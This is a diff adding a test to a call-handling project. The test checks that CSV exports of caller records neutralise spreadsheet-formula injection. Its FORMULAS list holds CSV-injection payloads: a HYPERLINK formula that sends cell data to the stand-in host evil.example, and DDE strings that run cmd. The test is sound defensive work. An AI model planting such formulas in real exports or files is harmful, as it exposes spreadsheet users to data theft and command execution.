@@ -8,6 +8,7 @@ import csv
 import io
 import json
 import math
+import os
 import subprocess
 import sys
 import threading
@@ -22,6 +23,7 @@ from core.app import make_app
 from core.calls import Filters
 from core.config import load
 from core.decisions import Decision
+from core.events import is_e164
 from core.hookspecs import hookimpl
 from core.runtime import Runtime
 from core.store import InspectTimeout
@@ -619,3 +621,62 @@ def test_a_cursor_or_time_out_of_range_is_a_usage_error(operator, option, value)
     ran = cli(path, "calls", option, value)
     assert ran.returncode == 2, (ran.stdout, ran.stderr)
     assert f"Invalid value for '{option}'" in ran.stderr, ran.stderr
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _csv_rows(config: Path, *args: str) -> list[dict[str, str]]:
+    """The CSV a command prints, read as a spreadsheet reads it: its bytes as they are
+    (text mode would turn a carriage return into a line end)."""
+    ran = subprocess.run(
+        [sys.executable, str(REPO / "serve.py"), "--config", str(config), *args],
+        capture_output=True,
+        timeout=120,
+        cwd=config.parent,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+        check=False,
+    )
+    assert ran.returncode == 0, ran.stderr
+    text = ran.stdout.decode()
+    for row in csv.reader(io.StringIO(text, newline="")):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or is_e164(cell), cell
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_exports_never_hold_a_formula(serve, tmp_path, backend):
+    """Callers that are spreadsheet formulas, recorded by a real server through the
+    pipeline, come out of ``switchboard calls --csv`` and ``crm export --format csv``
+    behind a single quote; an E.164 number (a ``+`` and digits) comes out unchanged."""
+    path = operator_config(tmp_path, backend.url(tmp_path, "formulas"))
+    server = serve(path.read_text(), name="formulas")
+    callers = {f"f-{i}": caller for i, caller in enumerate(FORMULAS)}
+    callers["f-e164"] = RICH
+    for callid, caller in callers.items():
+        event = ice(callid, to=DIALLED)
+        event["cli"] = caller
+        answered = server.post(event)
+        assert answered[0] == 200, answered
+        ended = dice(callid, duration=5, to=DIALLED)
+        ended["from"] = caller
+        assert server.post(ended)[0] == 200
+
+    rows = {r["callid"]: r for r in _csv_rows(server.config, "calls", "--csv", "--limit", "99")}
+    neutralised = {**{c: "'" + v for c, v in callers.items() if v != RICH}, "f-e164": RICH}
+    assert {c: rows[c]["caller"] for c in callers} == neutralised
+    deadline = time.time() + 10
+    while time.time() < deadline:  # the DiCEs are recorded by the crm plugin
+        records = _csv_rows(server.config, "crm", "export", "--format", "csv")
+        if len(records) == len(callers):
+            break
+        time.sleep(0.1)
+    assert {r["callid"]: r["caller"] for r in records} == neutralised
+    assert server.stop() == 0
